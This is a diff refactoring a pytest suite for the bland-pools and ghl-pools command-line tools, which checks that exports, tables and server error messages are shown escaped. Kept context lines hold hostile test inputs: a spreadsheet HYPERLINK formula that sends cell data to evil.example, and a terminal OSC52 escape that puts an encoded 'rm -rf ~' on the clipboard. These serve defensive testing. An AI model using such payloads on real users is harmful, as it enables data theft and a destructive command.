@@ -8,7 +8,6 @@ error message, from a small aiohttp server on 127.0.0.1."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
@@ -16,14 +15,13 @@ from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
+from _loopback import serve
 from aiohttp import web
 
-from bland_pools._cli import main as bland_main
 from bland_pools.testing import BlandEmulator
-from ghl_pools._cli import main as ghl_main
 from ghl_pools.testing import GHLEmulator
 
-from ._support import KEY, LOCATION, SAMPLE_POOL_ID, TOKEN, error_lines, run, table
+from ._support import KEY, LOCATION, SAMPLE_POOL_ID, TOKEN, bland, error_lines, ghl, table
 
 # The issue's three cells, as a sub-account user can type them.
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
@@ -36,13 +34,12 @@ OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"
 FORGED = "multi\nline  delete pool 1234"
 
 
-async def bland(*argv: str) -> int:
-    """``bland-pools`` in a thread (it runs its own loop) while servers run on this one."""
-    return await asyncio.to_thread(run, bland_main, argv)
+def bland_args(base_url: str, *argv: str) -> list[str]:
+    return ["--api-key", KEY, "--base-url", base_url, *argv]
 
 
-async def ghl(*argv: str) -> int:
-    return await asyncio.to_thread(run, ghl_main, argv)
+async def provision(base_url: str, source: Path, manifest: Path) -> int:
+    return await bland(*bland_args(base_url, "provision", str(source), "--manifest", str(manifest)))
 
 
 def assert_no_control_characters(text: str) -> None:
@@ -117,16 +114,7 @@ async def test_export_provision_keeps_numbers_and_round_trips_into_provision(
     exported.write_text(out, encoding="utf-8")
     manifest = tmp_path / "pools.db"
 
-    code = await bland(
-        "--api-key",
-        KEY,
-        "--base-url",
-        bland_emu.url,
-        "provision",
-        str(exported),
-        "--manifest",
-        str(manifest),
-    )
+    code = await provision(bland_emu.url, exported, manifest)
 
     out, err = capsys.readouterr()
     assert code == 0, err
@@ -151,16 +139,7 @@ async def provisioned(
     lines[-1] = json.dumps({"pool": keys[-1], "phone_numbers": ["+13125559998", "+13125559999"]})
     source.write_text("\n".join(lines) + "\n", encoding="utf-8")
     manifest = tmp_path / "pools.db"
-    code = await bland(
-        "--api-key",
-        KEY,
-        "--base-url",
-        emu.url,
-        "provision",
-        str(source),
-        "--manifest",
-        str(manifest),
-    )
+    code = await provision(emu.url, source, manifest)
     out, err = capsys.readouterr()
     assert code == 0, err
     return manifest, out, err
@@ -245,16 +224,7 @@ async def test_the_manifest_table_and_failed_lines_show_keys_escaped(
     )
     manifest = tmp_path / "pools.db"
 
-    code = await bland(
-        "--api-key",
-        KEY,
-        "--base-url",
-        bland_emu.url,
-        "provision",
-        str(source),
-        "--manifest",
-        str(manifest),
-    )
+    code = await provision(bland_emu.url, source, manifest)
 
     out, err = capsys.readouterr()
     assert code == 1
@@ -288,30 +258,14 @@ async def hostile_bland() -> AsyncIterator[str]:
         }
         return web.json_response(body, status=400)
 
-    app = web.Application()
-    app.router.add_route("*", "/{tail:.*}", answer)
-    runner = web.AppRunner(app)
-    await runner.setup()
-    await web.TCPSite(runner, "127.0.0.1", 0).start()
-    try:
-        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
-    finally:
-        await runner.cleanup()
+    async with serve(answer) as url:
+        yield url
 
 
 async def test_an_error_message_from_the_server_is_shown_escaped(
     hostile_bland: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    code = await bland(
-        "--api-key",
-        KEY,
-        "--base-url",
-        hostile_bland,
-        "--max-retries",
-        "0",
-        "get",
-        SAMPLE_POOL_ID,
-    )
+    code = await bland(*bland_args(hostile_bland, "--max-retries", "0", "get", SAMPLE_POOL_ID))
 
     out, err = capsys.readouterr()
     assert (code, out) == (1, "")
@@ -329,17 +283,8 @@ async def test_an_export_error_line_is_shown_escaped(
 ) -> None:
     # A GoHighLevel answer is a NestJS body: the "message" is what the line shows.
     code = await ghl(
-        "--token",
-        TOKEN,
-        "--base-url",
-        hostile_bland,
-        "--max-retries",
-        "0",
-        "export",
-        "--location",
-        LOCATION,
-        "--format",
-        "json",
+        *["--token", TOKEN, "--base-url", hostile_bland, "--max-retries", "0", "export"],
+        *["--location", LOCATION, "--format", "json"],
         "--partial",  # the output is written although a location failed
     )
 
@@ -367,21 +312,14 @@ async def hostile_pool() -> AsyncIterator[str]:
         }
         return web.json_response({"status": "success", "data": pool, "errors": None})
 
-    app = web.Application()
-    app.router.add_route("*", "/{tail:.*}", answer)
-    runner = web.AppRunner(app)
-    await runner.setup()
-    await web.TCPSite(runner, "127.0.0.1", 0).start()
-    try:
-        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
-    finally:
-        await runner.cleanup()
+    async with serve(answer) as url:
+        yield url
 
 
 async def test_a_shown_pool_has_its_fields_escaped(
     hostile_pool: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    code = await bland("--api-key", KEY, "--base-url", hostile_pool, "get", SAMPLE_POOL_ID)
+    code = await bland(*bland_args(hostile_pool, "get", SAMPLE_POOL_ID))
 
     out, err = capsys.readouterr()
     assert code == 0, err
